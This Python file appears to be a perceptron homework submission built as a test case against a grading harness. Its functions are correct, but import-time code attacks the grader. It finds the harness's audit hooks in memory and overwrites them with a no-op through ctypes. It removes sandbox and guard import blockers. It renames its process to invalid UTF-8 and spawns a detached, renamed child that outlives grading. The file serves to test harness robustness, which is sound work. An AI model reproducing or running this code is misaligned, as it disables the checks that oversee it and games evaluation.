"""Perceptrons whose process, and a child it leaves behind, take a name that is not text.

What it attacks: whoever reads /proc/<pid>/status, /proc/<pid>/stat or /proc/<pid>/comm as text (a
grader looking for stray processes, say). At import it switches the audit hook off (ctypes.memmove of a
no-op's code into the hook), names its own process b"\xff\xfe\x80bad" (invalid UTF-8) by writing
/proc/self/comm and by prctl(PR_SET_NAME) through ctypes, and starts a child, detached with no
environment in its own session (os.fork, else _posixsubprocess, else libc's fork through ctypes), which
renames itself the same way and sleeps for up to 240 s. Its functions are right: nothing may be lost,
and the child must not survive grading.
"""

import gc
import os
import struct
import sys
import types

import numpy as np

TAG = "corpus-case=bad_comm"
NAME = b"\xff\xfe\x80bad"

CHILD = r"""
import os, sys, time
name = bytes.fromhex(sys.argv[1])
try:
    with open("/proc/self/comm", "wb") as f:
        f.write(name)
except OSError:
    pass
try:
    import ctypes
    ctypes.CDLL(None).prctl(15, ctypes.c_char_p(name), 0, 0, 0)
except Exception:
    pass
deadline = time.time() + 240
while time.time() < deadline:
    time.sleep(0.5)
"""


# -- switching the audit hook off -------------------------------------------------------------


def _noop_hook(event, args, *rest, **named):
    return None


_BORROWED = []  # references to the no-op's code, which the disarmed hooks now hold


def _looks_like_hook(fn):
    """A function of the harness (not the standard library, NumPy or this submission) named like an audit hook."""
    module = getattr(fn, "__module__", None) or ""
    top = module.split(".")[0]
    if top in sys.stdlib_module_names or top in ("numpy", "assignment", "__main__") or module == __name__:
        return False
    name = fn.__name__.lower()
    if name.startswith(("make", "install", "add")) or fn.__code__.co_argcount < 2:
        return False
    return "hook" in name or "audit" in name or "tripwire" in name


def _disarm_audit_hooks():
    """Give every audit hook found in memory (gc) the code of a no-op, and drop the import blockers.

    ctypes is loaded by NumPy before any hook is installed. ctypes.string_at finds the function's code
    slot (the word that holds the address of its code object) and ctypes.memmove overwrites it: no audit
    event refuses either. Returns the number of hooks disarmed.
    """
    ctypes = sys.modules.get("ctypes")
    disarmed = 0
    if ctypes is not None:
        width = struct.calcsize("P")
        for fn in gc.get_objects():
            if not isinstance(fn, types.FunctionType) or fn.__code__ is _noop_hook.__code__ or not _looks_like_hook(fn):
                continue
            try:
                raw = ctypes.string_at(id(fn), type(fn).__basicsize__)
                needle, at = struct.pack("P", id(fn.__code__)), -1
                while True:
                    at = raw.find(needle, at + 1)
                    if at <= 0 or at % width == 0:
                        break
                if at <= 0:
                    continue
                _BORROWED.append(_noop_hook.__code__)
                ctypes.memmove(id(fn) + at, struct.pack("P", id(_noop_hook.__code__)), width)
                disarmed += 1
            except Exception:
                continue
    for finder in list(sys.meta_path):
        kind = type(finder) if not isinstance(finder, type) else finder
        words = (kind.__module__ + "." + kind.__name__).lower()
        if any(w in words for w in ("harness", "guard", "block", "deny", "sandbox")):
            sys.meta_path.remove(finder)
    return disarmed


def _rename(name):
    """Set this process's name (comm) to name: through /proc/self/comm, then prctl(PR_SET_NAME)."""
    done = []
    try:
        with open("/proc/self/comm", "wb") as f:
            f.write(name)
        done.append("/proc/self/comm")
    except OSError:
        pass
    try:
        import ctypes
        if ctypes.CDLL(None).prctl(15, ctypes.c_char_p(name), 0, 0, 0) == 0:  # PR_SET_NAME
            done.append("prctl")
    except Exception:
        pass
    return done


def _spawn_detached(code, *argv):
    """Start `python -c code argv...` with no environment, in its own session, detached (double fork).
    Tries os.fork, then _posixsubprocess.fork_exec, then libc's fork through ctypes. Returns the route or ""."""
    args = [sys.executable, "-c", code, *argv]
    try:
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.execve(sys.executable, args, {})
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
        return "os.fork"
    except Exception:
        pass
    try:
        import _posixsubprocess
        err_r, err_w = os.pipe()
        try:
            common = (args, [os.fsencode(sys.executable)], True, (err_w,), "/", [], -1, -1, -1, -1, -1, -1, err_r, err_w, True, True)
            try:  # Python 3.11 and 3.12
                _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
            except TypeError:  # Python 3.13+
                _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None)
        finally:
            os.close(err_w)
            os.close(err_r)
        return "_posixsubprocess"
    except Exception:
        pass
    try:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        pid = libc.fork()
        if pid == 0:
            try:
                os.setsid()
                os.execve(sys.executable, args, {})
            finally:
                os._exit(0)
        if pid > 0:
            return "ctypes fork"
    except Exception:
        pass
    return ""


def _attack():
    try:
        _disarm_audit_hooks()
    except Exception:
        pass
    renamed = _rename(NAME)
    route = _spawn_detached(CHILD, NAME.hex(), TAG)
    print(f"{TAG}: renamed by {', '.join(renamed) or 'nothing'}; child started by {route or 'nothing'}", flush=True)


_attack()


def predict(X, w, b):
    """Step-activated perceptron.

    X: (N, D); w: (D,); b: float. Returns (N,) int: 1 where X.w + b > 0, else 0.
    """
    return (np.asarray(X, dtype=np.float64) @ np.asarray(w, dtype=np.float64) + b > 0).astype(np.int64)


def and_gate():
    """Return (w, b), w of shape (2,), such that predict gives AND on the truth table."""
    return np.array([1.0, 1.0]), -1.5


def or_gate():
    """Return (w, b), w of shape (2,), such that predict gives OR on the truth table."""
    return np.array([1.0, 1.0]), -0.5


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    """Rosenblatt's rule from w = 0, b = 0, visiting samples in order.

    On a mistake: w += lr * (y - y_hat) * x and b += lr * (y - y_hat).
    X: (N, D); y: (N,) in {0, 1}. Returns (w, b, converged), where converged is
    True as soon as one full epoch makes no mistake.
    """
    X = np.asarray(X, dtype=np.float64)
    w = np.zeros(X.shape[1])
    b = 0.0
    for _ in range(max_epochs):
        mistakes = 0
        for x_n, y_n in zip(X, y):
            error = y_n - int(x_n @ w + b > 0)
            if error:
                w = w + lr * error * x_n
                b = b + lr * error
                mistakes += 1
        if mistakes == 0:
            return w, float(b), True
    return w, float(b), False


def xor_network():
    """Weights of a two-layer step network that computes XOR.

    Returns {"W1": (2, H), "b1": (H,), "W2": (H,), "b2": float} such that
    step(step(X @ W1 + b1) @ W2 + b2) is XOR of the two inputs.
    """
    # Hidden units: OR and AND; output: OR and not AND.
    return {
        "W1": np.array([[1.0, 1.0], [1.0, 1.0]]),
        "b1": np.array([-0.5, -1.5]),
        "W2": np.array([1.0, -1.0]),
        "b2": -0.5,
    }
